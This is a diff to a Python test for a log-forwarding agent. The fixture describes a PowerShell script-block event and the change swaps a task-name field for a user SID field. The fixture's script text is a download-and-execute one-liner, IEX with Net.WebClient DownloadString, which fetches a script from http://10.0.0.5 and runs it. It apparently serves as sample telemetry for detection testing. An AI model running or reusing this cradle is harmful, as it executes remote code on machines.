@@ -88,7 +88,8 @@ def test_agent_fake_sources_to_real_broker(monkeypatch, tmp_path, kafka_bootstra
         "MessageTotal": 1,
         "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')",
         "ScriptBlockId": "7f0b2a8e-3c1d-4b8e-9a51-2f6c0d9e4b11", "Path": "",
-        "sigstream_TaskName": "EXECUTE A REMOTE COMMAND"}
+        # the ETW session asks for the user SID, as the event log records it (issue 16)
+        "Security_UserID": "S-1-5-21-1004336348-1177238915-682003330-1104"}
     reg = next(e for e in sysmon if e["EventID"] == 13)
     assert reg["TargetObject"].startswith("HKU\\S-1-5-21-") and reg["ProcessId"] == 7444
     assert reg["TimeCreated"] == "2026-11-24T09:12:01.555012Z"
